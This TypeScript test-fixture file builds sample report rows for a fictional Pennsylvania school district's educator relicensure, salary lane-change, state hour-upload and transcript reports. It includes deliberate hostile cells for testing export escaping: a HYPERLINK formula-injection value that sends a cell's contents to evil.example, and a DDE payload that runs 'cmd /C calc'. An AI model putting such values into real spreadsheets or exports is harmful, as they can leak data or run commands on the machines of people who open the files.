// Deterministic sample rows for the writer specs and the sample PDFs: demo-district names (see the
// shared contract), a few hostile cells (formula injection, quotes, line breaks, very long names
// and URLs) and exact decimal amounts.
import type {
  LaneChangeReportRow,
  RelicensureReportRow,
  RenewalStatus,
  ReportMeta,
  StateHourUploadRow,
  TranscriptInput,
} from '../report-rows';

export const MAPLEWOOD_SCHOOLS = [
  'Lincoln Elementary',
  'Roosevelt Elementary',
  'Jefferson Elementary',
  'Washington Middle School',
  'Madison Middle School',
  'Maplewood High School',
] as const;

const FIRST_NAMES = ['Maria', 'James', 'José', 'Aisha', 'Wei', 'Olivia', 'Liam', 'Sofía', 'Noah', 'Emma'];
const LAST_NAMES = ['Alvarez', 'Chen', 'García', 'Okafor', 'Smith', 'Johnson', 'Nguyen', "O'Brien", 'Kowalski', 'Patel'];
const STATUSES: RenewalStatus[] = ['complete', 'on_track', 'at_risk', 'behind', 'lapsed'];

export const SAMPLE_META: ReportMeta = {
  title: 'Relicensure report',
  districtName: 'Maplewood School District',
  generatedAt: new Date('2026-03-14T13:30:00Z'),
  timeZone: 'America/New_York',
  filters: [
    { label: 'Status', value: 'all' },
    { label: 'Deadline within', value: '365 days' },
  ],
};

/** Decimal string from tenths, exactly (no floats): 1805 -> "180.5". */
function tenths(value: number): string {
  const whole = Math.trunc(value / 10);
  const fraction = value % 10;
  return fraction === 0 ? String(whole) : `${whole}.${fraction}`;
}

function uuid(index: number): string {
  return `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`;
}

/** The `index`-th relicensure row; schools cycle in blocks so rows come sorted by primary school. */
export function relicensureRow(index: number, perSchool = 4): RelicensureReportRow {
  const school = MAPLEWOOD_SCHOOLS[Math.floor(index / perSchool) % MAPLEWOOD_SCHOOLS.length];
  const earnedTenths = (index * 137) % 1900;
  const requiredTenths = 1800;
  const remaining = Math.max(0, requiredTenths - earnedTenths);
  return {
    educatorId: uuid(index),
    stateEducatorId: index % 11 === 5 ? null : String(4_000_000 + index),
    firstName: FIRST_NAMES[index % FIRST_NAMES.length],
    lastName: LAST_NAMES[(index * 7) % LAST_NAMES.length],
    schools: index % 9 === 3 ? [school, 'Maplewood High School'] : [school],
    licenseStateCode: 'PA',
    licenseType: index % 3 === 0 ? 'Instructional II' : 'Instructional I',
    licenseNumber: String(700_000 + index * 13),
    cycleStart: '2021-07-01',
    cycleEnd: '2026-06-30',
    deadline: '2026-06-30',
    unit: 'Act 48 hours',
    required: tenths(requiredTenths),
    earned: tenths(earnedTenths),
    remaining: tenths(remaining),
    categories: [],
    status: remaining === 0 ? 'complete' : STATUSES[1 + (index % 4)],
    lastPdOn: index % 13 === 0 ? null : `2025-${String(1 + (index % 12)).padStart(2, '0')}-15`,
  };
}

/** A small report with awkward cells, for round trips and the sample PDF. */
export function sampleRelicensureRows(): RelicensureReportRow[] {
  const rows = Array.from({ length: 40 }, (_, index) => relicensureRow(index, 7));
  rows[1] = {
    ...rows[1],
    firstName: 'Maximiliana Alexandrovna',
    lastName: 'Featherstonehaugh-Worthington-Montgomery',
    licenseType: 'Instructional II, Educational Specialist (School Counselor K-12)',
  };
  rows[2] = {
    ...rows[2],
    firstName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    lastName: '+Smith',
  };
  rows[3] = {
    ...rows[3],
    lastName: 'Line\nBreak "Quoted", Comma',
    categories: [
      {
        id: 'literacy',
        label: 'Structured literacy',
        required: '3',
        earned: '1.5',
        met: false,
      },
      {
        id: 'safety',
        label: 'School safety',
        required: '2',
        earned: '2',
        met: true,
      },
    ],
  };
  return rows;
}

export function sampleLaneChangeRows(): LaneChangeReportRow[] {
  const lanes = ['BA', 'BA+15', 'MA', 'MA+15', 'MA+30', 'PhD'];
  return Array.from({ length: 24 }, (_, index) => {
    const laneIndex = index % 5;
    const step = 1 + (index % 12);
    const current = 5_200_000 + laneIndex * 250_000 + step * 110_050;
    const next = current + 180_000 + (index % 4) * 25_025;
    return {
      educatorId: uuid(1000 + index),
      firstName: index === 2 ? 'Maximiliana Alexandrovna' : FIRST_NAMES[index % FIRST_NAMES.length],
      lastName: index === 2 ? 'Featherstonehaugh-Worthington-Montgomery' : LAST_NAMES[(index * 3) % LAST_NAMES.length],
      school: MAPLEWOOD_SCHOOLS[Math.floor(index / 4) % MAPLEWOOD_SCHOOLS.length],
      currentLane: lanes[laneIndex],
      currentStep: step,
      currentSalaryCents: current,
      nextLane: lanes[laneIndex + 1],
      nextStep: step,
      nextSalaryCents: next,
      differenceCents: next - current,
      effectiveDate: '2026-08-15',
      creditsEarned: index % 3 === 0 ? '13.5' : '15',
      creditsNeeded: '15',
      qualifies: index % 3 === 0 ? 'with_pending' : 'now',
    };
  });
}

export function sampleStateHourRows(): StateHourUploadRow[] {
  return [
    {
      stateEducatorId: '4000001',
      firstName: 'Maria',
      lastName: 'Alvarez',
      provider: 'Intermediate Unit 13',
      activityTitle: 'Structured literacy, module 2',
      startDate: '2025-09-02',
      completionDate: '2025-10-14',
      amount: '12.5',
      unit: 'Act 48 hours',
      category: 'Literacy',
      evidence: 'https://credentials.example.org/badges/7f3c',
    },
    {
      stateEducatorId: null,
      firstName: 'James',
      lastName: 'Chen',
      provider: '@provider',
      activityTitle: "-2+3+cmd|' /C calc'!A0",
      startDate: null,
      completionDate: '2025-11-30',
      amount: '-3',
      unit: 'Act 48 hours',
      category: null,
      evidence: 'urn:uuid:1f0c2a5e-0000-4000-8000-000000000001',
    },
  ];
}

export function sampleTranscript(): TranscriptInput {
  return {
    educator: {
      id: uuid(1),
      firstName: 'Maria',
      lastName: 'Alvarez',
      stateEducatorId: '4000001',
      email: 'teacher@maplewood.example.org',
      schools: ['Lincoln Elementary'],
    },
    district: { name: 'Maplewood School District', stateCode: 'PA' },
    license: {
      stateCode: 'PA',
      licenseType: 'Instructional II',
      number: '700013',
      issuedOn: '2016-07-01',
    },
    cycle: {
      start: '2021-07-01',
      end: '2026-06-30',
      deadline: '2026-06-30',
      unit: 'Act 48 hours',
    },
    records: Array.from({ length: 14 }, (_, index) => ({
      id: uuid(5000 + index),
      title:
        index === 4
          ? 'An unusually long course title about evidence-based structured literacy instruction for multilingual learners in grades K-3, part two'
          : ['Classroom management workshop', 'Math coaching cycle', 'PETE&C conference', 'Trauma-informed practice'][index % 4],
      provider: index % 5 === 0 ? 'Penn State University' : 'Intermediate Unit 13',
      activityType: index % 5 === 0 ? 'Course' : 'Workshop',
      startedOn: index % 5 === 0 ? `2023-0${1 + (index % 8)}-01` : null,
      completedOn: `2023-0${1 + (index % 8)}-2${index % 9}`,
      recordedAmount: index % 5 === 0 ? '1' : '6.5',
      recordedUnit: index % 5 === 0 ? 'semester credit' : 'clock hours',
      creditedAmount: index % 5 === 0 ? '30' : '6.5',
      categories: index % 4 === 3 ? ['Structured literacy'] : [],
      rule:
        index % 5 === 0
          ? {
              id: 'pa-act48-college-credit',
              description: 'One college credit equals 30 Act 48 hours',
              citation: '24 P.S. § 12-1205.2(e); PDE Act 48 Guidelines § III',
            }
          : {
              id: 'pa-act48-clock-hour',
              description: 'Approved provider clock hours count one for one',
              citation: '22 Pa. Code § 49.17',
            },
      evidence:
        index === 4
          ? 'https://credentials.example.org/verify/aVeryLongCredentialIdentifierWithoutAnySpacesThatMustWrapInsideItsCell0123456789'
          : null,
    })),
    totals: {
      required: '180',
      earned: '161.5',
      remaining: '18.5',
      status: 'at_risk',
      lastPdOn: '2025-10-14',
    },
    categories: [
      {
        id: 'literacy',
        label: 'Structured literacy',
        required: '3',
        earned: '1.5',
        met: false,
      },
    ],
    missing: [
      {
        description: 'Act 48 hours still needed before 2026-06-30',
        amount: '18.5',
      },
      { description: 'Structured literacy hours', amount: '1.5' },
    ],
    generatedAt: new Date('2026-03-14T13:30:00Z'),
    timeZone: 'America/New_York',
  };
}
